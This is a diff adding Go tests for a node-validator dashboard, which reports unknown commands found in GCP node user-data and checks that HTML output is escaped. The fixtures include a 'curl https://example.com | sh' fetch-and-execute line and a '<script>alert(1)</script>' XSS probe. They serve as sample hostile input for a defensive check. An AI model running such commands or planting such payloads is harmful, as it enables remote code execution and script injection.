@@ -0,0 +1,164 @@
+package dashboard
+
+import (
+	"context"
+	"errors"
+	"net/http"
+	"net/http/httptest"
+	"path/filepath"
+	"testing"
+	"time"
+
+	"github.com/castai/gcp-node-validator/container/findings"
+	"github.com/castai/gcp-node-validator/container/validate"
+	"github.com/stretchr/testify/require"
+)
+
+type fakeVersions struct {
+	versions []validate.SourceVersion
+	err      error
+}
+
+func (f *fakeVersions) Versions(context.Context) ([]validate.SourceVersion, error) {
+	return f.versions, f.err
+}
+
+func newTestHandler(t *testing.T, now time.Time, opts ...Option) *http.ServeMux {
+	t.Helper()
+	ctx := context.Background()
+
+	store, err := findings.OpenSQLStore(ctx, findings.DriverSQLite, filepath.Join(t.TempDir(), "findings.db"))
+	require.NoError(t, err)
+	t.Cleanup(func() { _ = store.Close() })
+
+	unknownCommands := func(lines ...string) []findings.Finding {
+		return []findings.Finding{{Type: findings.TypeUnknownCommands, MetadataKey: validate.MetadataUserDataKey, Lines: lines}}
+	}
+	for _, result := range []*findings.ValidationResult{
+		{Verdict: validate.VerdictValid, Instance: "node-1", Cluster: "cluster-1", ClusterName: "prod", ObservedAt: now.Add(-48 * time.Hour)},
+		{Verdict: validate.VerdictInvalid, Instance: "node-2", Cluster: "cluster-1", ClusterName: "prod", ObservedAt: now.Add(-3 * time.Hour),
+			Findings: unknownCommands("curl https://example.com | sh", "<script>alert(1)</script>")},
+		{Verdict: validate.VerdictInvalid, Instance: "node-2", Cluster: "cluster-1", ClusterName: "prod", ObservedAt: now.Add(-2 * time.Hour),
+			Findings: unknownCommands("curl https://example.com | sh", "<script>alert(1)</script>"),
+			Action:   &findings.Action{Name: "delete", Result: "applied"}},
+		{Verdict: validate.VerdictValid, Instance: "node-3", Cluster: "cluster-1", ClusterName: "prod", ObservedAt: now.Add(-time.Hour)},
+		{Verdict: validate.VerdictInvalid, Instance: "node-4", Cluster: "cluster-2", ClusterName: "staging", ObservedAt: now.Add(-time.Hour),
+			Findings: unknownCommands("curl https://example.com | sh")},
+		{Verdict: validate.VerdictUnverifiable, Instance: "node-5", Cluster: "cluster-2", ClusterName: "staging", ObservedAt: now.Add(-time.Minute),
+			Findings: []findings.Finding{{Type: findings.TypeValidationFailed, Detail: "instance template not found"}}},
+	} {
+		result.SchemaVersion = findings.SchemaVersion
+		require.NoError(t, store.Report(ctx, result))
+	}
+
+	handler := NewHandler(store, opts...)
+	handler.now = func() time.Time { return now }
+
+	mux := http.NewServeMux()
+	mux.HandleFunc("GET /dashboard/{$}", handler.HandleSummary)
+	mux.HandleFunc("GET /dashboard/instances/{name}", handler.HandleInstance)
+	return mux
+}
+
+func get(t *testing.T, mux *http.ServeMux, url string) *httptest.ResponseRecorder {
+	t.Helper()
+	rec := httptest.NewRecorder()
+	mux.ServeHTTP(rec, httptest.NewRequest(http.MethodGet, url, nil))
+	return rec
+}
+
+func TestSummarize(t *testing.T) {
+	r := require.New(t)
+	now := time.Date(2024, 1, 1, 0, 0, 0, 0, time.UTC)
+
+	results := []*findings.ValidationResult{
+		{Verdict: validate.VerdictValid, Instance: "node-2", Cluster: "cluster-1", ObservedAt: now},
+		{Verdict: validate.VerdictInvalid, Instance: "node-1", Cluster: "cluster-1", ClusterName: "prod", ObservedAt: now.Add(-time.Minute),
+			Findings: []findings.Finding{{Lines: []string{"a", "b", "a"}}}, Action: &findings.Action{Name: "stop", Result: "applied"}},
+		{Verdict: validate.VerdictInvalid, Instance: "node-2", Cluster: "cluster-1", ObservedAt: now.Add(-2 * time.Minute),
+			Findings: []findings.Finding{{Lines: []string{"c"}}}},
+		{Verdict: validate.VerdictInvalid, Instance: "node-3", Cluster: "cluster-2", ObservedAt: now.Add(-3 * time.Minute),
+			Findings: []findings.Finding{{Lines: []string{"a"}}}},
+	}
+
+	clusters, fragments := summarize(results)
+
+	r.Len(clusters, 2)
+	r.Equal("cluster-1", clusters[0].Cluster)
+	r.Equal("prod", clusters[0].ClusterName)
+	r.Equal(1, clusters[0].Valid, "the latest result of an instance counts")
+	r.Equal(1, clusters[0].Invalid)
+	r.Same(results[1], clusters[0].LastEnforcement)
+	r.Equal([]*findings.ValidationResult{results[1]}, clusters[0].Instances)
+	r.Equal("cluster-2", clusters[1].Cluster)
+	r.Equal([]Fragment{{Line: "a", Instances: 2}, {Line: "b", Instances: 1}}, fragments)
+}
+
+func TestHandleSummary(t *testing.T) {
+	now := time.Date(2024, 1, 1, 12, 0, 0, 0, time.UTC)
+	versions := &fakeVersions{versions: []validate.SourceVersion{
+		{Source: "gs://whitelist", Name: "castai.sh", Version: "1704067200000000", Updated: now.Add(-24 * time.Hour), Size: 512},
+	}}
+	mux := newTestHandler(t, now, WithWhitelistVersions(versions))
+
+	t.Run("summary", func(t *testing.T) {
+		r := require.New(t)
+
+		rec := get(t, mux, "/dashboard/")
+		r.Equal(http.StatusOK, rec.Code)
+		r.Equal("text/html; charset=utf-8", rec.Header().Get("Content-Type"))
+		body := rec.Body.String()
+
+		r.Contains(body, "5 results since 2023-12-31 12:00:00 UTC")
+		r.Contains(body, `<a href="#cluster-cluster-1">prod</a>`)
+		r.Contains(body, `<a href="/dashboard/instances/node-2">node-2</a>`)
+		r.Contains(body, "delete applied on")
+		r.Contains(body, "<code>curl https://example.com | sh</code></td><td>2</td>")
+		r.Contains(body, "&lt;script&gt;alert(1)&lt;/script&gt;", "script lines are escaped")
+		r.NotContains(body, "<script>")
+		r.Contains(body, "<td>castai.sh</td><td>1704067200000000</td>")
+		r.NotContains(body, "node-1", "results out of the window are not shown")
+	})
+
+	t.Run("window", func(t *testing.T) {
+		r := require.New(t)
+
+		rec := get(t, mux, "/dashboard/?window=72h")
+		r.Equal(http.StatusOK, rec.Code)
+		r.Contains(rec.Body.String(), "6 results since")
+
+		r.Equal(http.StatusBadRequest, get(t, mux, "/dashboard/?window=forever").Code)
+	})
+}
+
+func TestHandleSummaryVersionsError(t *testing.T) {
+	r := require.New(t)
+
+	mux := newTestHandler(t, time.Now(), WithWhitelistVersions(&fakeVersions{err: errors.New("forbidden")}))
+
+	rec := get(t, mux, "/dashboard/")
+	r.Equal(http.StatusOK, rec.Code)
+	r.Contains(rec.Body.String(), "failed to list whitelist versions")
+}
+
+func TestHandleInstance(t *testing.T) {
+	r := require.New(t)
+	now := time.Date(2024, 1, 1, 12, 0, 0, 0, time.UTC)
+	mux := newTestHandler(t, now)
+
+	rec := get(t, mux, "/dashboard/instances/node-2")
+	r.Equal(http.StatusOK, rec.Code)
+	body := rec.Body.String()
+	r.Contains(body, "<h1>node-2</h1>")
+	r.Contains(body, `<span class="meta">&#43;&#43;&#43; user-data</span>`)
+	r.Contains(body, `<span class="add">&#43;curl https://example.com | sh</span>`)
+	r.Contains(body, `<span class="add">&#43;&lt;script&gt;alert(1)&lt;/script&gt;</span>`)
+	r.Contains(body, "at 2024-01-01 10:00:00 UTC")
+	r.Contains(body, "at 2024-01-01 09:00:00 UTC")
+
+	rec = get(t, mux, "/dashboard/instances/node-5")
+	r.Equal(http.StatusOK, rec.Code)
+	r.Contains(rec.Body.String(), "<p>instance template not found</p>")
+
+	r.Equal(http.StatusNotFound, get(t, mux, "/dashboard/instances/node-6").Code)
+}